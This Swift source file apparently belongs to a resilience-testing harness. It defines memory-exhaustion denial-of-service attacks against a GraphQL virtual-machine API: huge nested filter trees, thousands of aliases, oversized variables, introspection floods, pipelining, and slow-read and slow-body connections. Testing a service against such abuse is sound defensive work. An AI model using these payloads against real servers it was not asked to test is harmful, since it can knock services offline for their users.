/// Attacks on memory.
extension Attack {
    static let onMemory: [Attack] = [
        Attack(name: "plans", kind: .memory, attacker: .anybody, isShort: true, variants: 1_000_000) { number, _ in
            HTTPText.post(
                HTTPText.operation(Documents.fan(number / 16), variables: Documents.fanVariables(number)))
        },
        Attack(
            name: "slow-introspection", kind: .memory, attacker: .anybody,
            manner: .readingSlowly(bytesPerSecond: 4_200),
            connections: 110, isShort: true
        ) { _, _ in HTTPText.post(HTTPText.operation(Documents.introspection(80))) },
        Attack(name: "parameters", kind: .memory, attacker: .customer, isShort: true, variants: 4) { number, sender in
            let filter = (0..<100).map { "{identityName:{contains:$\($0 % 2 == 0 ? "t" : "u")}}" }.joined(
                separator: " ")
            let field = "virtualMachines(filter:{or:[\(filter)]}){totalCount}"
            return HTTPText.post(
                HTTPText.operation(
                    "query Q\(number % 4)($t:String!,$u:String!){\(Documents.aliases(20, field))}",
                    variables: "{\"t\":\"\(Documents.text(900_000))\",\"u\":\"\(number)\"}"),
                token: sender.token)
        },
        Attack(name: "empty-branches", kind: .memory, attacker: .customer, isShort: true, variants: 4) {
            number, sender in
            let filter = Documents.emptyBranches("{\"not\":{}}", 80_000 - number % 1_000)
            return HTTPText.post(
                HTTPText.operation(
                    "query($f:VirtualMachineFilter){virtualMachines(filter:$f){totalCount}}",
                    variables: "{\"f\":\(filter)}"),
                token: sender.token)
        },
        Attack(
            name: "slow-bodies", kind: .memory, attacker: .anybody, manner: .sendingSlowly, connections: 1_000,
            isWorthOne: false
        ) { _, _ in HTTPText.postHead(byteCount: 1_000_000) + [UInt8](repeating: 32, count: 990_000) },
        Attack(name: "value-trees", kind: .memory, attacker: .anybody, isShort: true) { _, _ in
            HTTPText.post(
                HTTPText.operation(
                    "query($f:VirtualMachineFilter){virtualMachines(filter:$f){totalCount}}",
                    variables: "{\"f\":\(Documents.emptyBranches("{}", 340_000))}"))
        },
        Attack(
            name: "slow-pages", kind: .memory, attacker: .reseller, manner: .readingSlowly(bytesPerSecond: 4_200)
        ) { _, sender in
            let page = "virtualMachines(first:1000){nodes{id identityName guestOs vcenterName updatedAt createdAt}}"
            return HTTPText.post(HTTPText.operation("{\(Documents.aliases(20, page))}"), token: sender.token)
        },
        Attack(name: "pipelines", kind: .memory, attacker: .anybody, manner: .pipelining(200)) { _, _ in
            HTTPText.post(HTTPText.operation(Documents.introspection(4)))
        },
        Attack(name: "large-documents", kind: .memory, attacker: .anybody, variants: 1_000_000) { number, _ in
            let fields = Documents.aliases(19_000, "viewer{scope}")
            return HTTPText.post(HTTPText.operation("query Q\(number){\(fields)}"))
        },
    ]
}
